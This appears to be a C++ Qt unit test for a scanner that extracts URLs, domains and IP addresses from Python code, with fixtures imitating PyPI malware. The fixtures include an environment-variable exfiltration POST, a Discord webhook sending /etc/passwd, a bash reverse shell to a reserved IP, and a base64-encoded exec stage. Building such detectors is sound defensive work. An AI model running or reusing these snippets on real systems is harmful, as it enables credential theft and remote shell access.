// Indicators of compromise in Python text (engine/analysis/indicators.h): URLs, domains and IP addresses read from
// string literals. The snippets imitate real PyPI malware (exfiltration posts, Discord webhooks, reverse shells,
// layered payloads) with reserved addresses (RFC 5737, RFC 2606); the negatives are what every benign setup.py holds.
#include "analysis/indicators.h"

#include <QtTest>

#include <string>
#include <vector>

using mph::collectIndicators;
using mph::Indicators;
using Strings = std::vector<std::string>;

class IndicatorsTest : public QObject {
    Q_OBJECT
  private slots:
    void exfiltrationPost() {
        const Indicators found =
            collectIndicators("import urllib.request, json, os\n"
                              "data = json.dumps(dict(os.environ)).encode()\n"
                              "req = urllib.request.Request(\"http://192.0.2.4:8080/x\", data=data, method=\"POST\")\n"
                              "urllib.request.urlopen(req)\n");
        QCOMPARE(found.urls, Strings{"http://192.0.2.4:8080/x"});
        QCOMPARE(found.ipAddresses, Strings{"192.0.2.4"});
        QVERIFY(found.domains.empty());
    }

    void discordWebhookAndOnion() {
        const Indicators found =
            collectIndicators("import requests\n"
                              "WEBHOOK = 'https://discord.com/api/webhooks/112233/AbC-dEf_123'\n"
                              "requests.post(WEBHOOK, json={\"content\": open(\"/etc/passwd\").read()})\n"
                              "requests.get(f\"http://exampleonionxyzabcd.onion/{os.getlogin()}/k\")\n");
        QCOMPARE(found.urls,
                 (Strings{"https://discord.com/api/webhooks/112233/AbC-dEf_123", "http://exampleonionxyzabcd.onion/"}));
        QCOMPARE(found.domains, (Strings{"discord.com", "exampleonionxyzabcd.onion"}));
        QVERIFY(found.ipAddresses.empty());
    }

    void bareHostsAndReverseShell() {
        const Indicators found =
            collectIndicators("import socket, subprocess\n"
                              "host = \"PasteBin.com\"\n"
                              "s = socket.socket(); s.connect((\"0.tcp.ngrok.io\", 14441))\n"
                              "subprocess.call(\"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\", shell=True)\n"
                              "c2 = 'evil.example.net:8443'\n"
                              "v6 = \"2001:db8::5\"\n");
        QCOMPARE(found.domains, (Strings{"pastebin.com", "0.tcp.ngrok.io", "evil.example.net"}));
        QCOMPARE(found.ipAddresses, (Strings{"198.51.100.7", "2001:db8::5"}));
        QVERIFY(found.urls.empty());
    }

    void prefixesEscapesAndConcatenation() {
        const Indicators found = collectIndicators("a = b\"https://bytes.example.org/p\"\n"
                                                   "b = r'ftp://raw.example.org/a\\b'\n"
                                                   "c = \"\\x68\\x74\\x74\\x70\\x3a//escaped.example.com/z\"\n"
                                                   "d = \"wss://\" \"concat.example.com\" \"/socket\"\n"
                                                   "e = \"\"\"\n"
                                                   "multi line http://[2001:db8::1]:9000/v6 text\n"
                                                   "\"\"\"\n"
                                                   "f = u'ws://203.0.113.9/u'\n");
        QCOMPARE(found.urls,
                 (Strings{"https://bytes.example.org/p", "ftp://raw.example.org/a", "http://escaped.example.com/z",
                          "wss://concat.example.com/socket", "http://[2001:db8::1]:9000/v6", "ws://203.0.113.9/u"}));
        QCOMPARE(found.domains,
                 (Strings{"bytes.example.org", "raw.example.org", "escaped.example.com", "concat.example.com"}));
        QCOMPARE(found.ipAddresses, (Strings{"2001:db8::1", "203.0.113.9"}));
    }

    // A decoded layer is Python text too: its literals are read like any script's. The base64 literal that carried it
    // is no indicator itself.
    void decodedLayerText() {
        const Indicators outer = collectIndicators(
            "import base64\nexec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0CnVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dH"
            "A6Ly9jMi5leGFtcGxlLmludmFsaWQvc3RhZ2UyIikK'))\n");
        QVERIFY(outer.empty());
        const Indicators layer =
            collectIndicators("import urllib.request\nurllib.request.urlopen(\"http://c2.example.invalid/stage2\")\n");
        QCOMPARE(layer.urls, Strings{"http://c2.example.invalid/stage2"});
        QCOMPARE(layer.domains, Strings{"c2.example.invalid"});
    }

    void benignSetupGivesNothing() {
        const Indicators found =
            collectIndicators("\"\"\"Setup for demo-lib. See https://docs.example.org/demo-lib for the manual.\"\"\"\n"
                              "import os.path\n"
                              "from setuptools import setup, find_packages\n"
                              "__version__ = \"1.0.2.3\"\n"
                              "here = os.path.abspath(os.path.dirname(__file__))\n"
                              "with open(os.path.join(here, \"README.md\")) as f:\n"
                              "    long_description = f.read()\n"
                              "exec(open(\"demo_lib/_version.py\").read())\n"
                              "setup(\n"
                              "    name=\"demo-lib\",\n"
                              "    version=\"1.0.0.1\",\n"
                              "    url=\"https://github.com/example/demo-lib\",\n"
                              "    author=\"A. Author\",\n"
                              "    author_email=\"author@example.com\",\n"
                              "    project_urls={\"Source\": \"https://github.com/example/demo-lib\"},\n"
                              "    packages=find_packages(exclude=[\"tests.test\", \"google.cloud\", \"flask.app\"]),\n"
                              "    package_data={\"demo_lib\": [\"data.json\", \"setup.cfg\", \"lib.so\", "
                              "\"native.cc\", \"run.sh\", \"mod.pl\"]},\n"
                              "    entry_points={\"console_scripts\": [\"demo=demo_lib.cli:main\"]},\n"
                              "    python_requires=\">=3.8\",\n"
                              "    install_requires=[\"requests>=2.31.0\", \"os.path\"],\n"
                              "    classifiers=[\"Programming Language :: Python :: 3.11\"],\n"
                              ")\n"
                              "print(\"contact: someone@example.net\", \"1.0.2\", \"setup.py\", \"os.path\", \"::\", "
                              "\"a:b\", \"1.2.3.4.5\", \"v1.2.3.4b\")\n"
                              "# http://comment.example.com is a comment, not a literal\n");
        QVERIFY2(found.empty(), (found.urls.size() + found.domains.size() + found.ipAddresses.size() > 0
                                     ? (found.urls.empty() ? std::string() : found.urls.front()) + " " +
                                           (found.domains.empty() ? std::string() : found.domains.front()) + " " +
                                           (found.ipAddresses.empty() ? std::string() : found.ipAddresses.front())
                                     : std::string())
                                    .c_str());
    }

    void notHostsButLookAlike() {
        const Indicators found =
            collectIndicators("x = [\"256.1.1.1\", \"1.2.3\", \"xhttp://a.example.com\", \"std::string\", "
                              "\"12:30:45\", \"e.g.\", \"http://\", \"http://-bad-/\"]\n"
                              "y = \"self.to(device)\"\n");
        QVERIFY(found.urls.empty());
        QVERIFY(found.ipAddresses.empty());
        QVERIFY(found.domains.empty());
    }

    void brokenAndPython2TextStillRead() {
        const Indicators found =
            collectIndicators("print 'see http://192.0.2.55/p'\nif (:\n  x = 'evil.example.com'\n");
        QCOMPARE(found.urls, Strings{"http://192.0.2.55/p"});
        QVERIFY(std::find(found.domains.begin(), found.domains.end(), "evil.example.com") != found.domains.end());
        QVERIFY(collectIndicators("").empty());
        QVERIFY(collectIndicators(std::string("\xff\xfe'http://\xff.example.com'")).urls.empty());
    }

    void mergeKeepsOrderAndUniqueness() {
        Indicators into = collectIndicators("a = 'http://one.example.com/'\nb = '192.0.2.1'\n");
        mph::mergeIndicators(into, collectIndicators("c = 'two.example.com'\nd = 'http://one.example.com/'\n"));
        QCOMPARE(into.urls, Strings{"http://one.example.com/"});
        QCOMPARE(into.domains, (Strings{"one.example.com", "two.example.com"}));
        QCOMPARE(into.ipAddresses, Strings{"192.0.2.1"});
    }
};

QTEST_GUILESS_MAIN(IndicatorsTest)
#include "tst_indicators.moc"
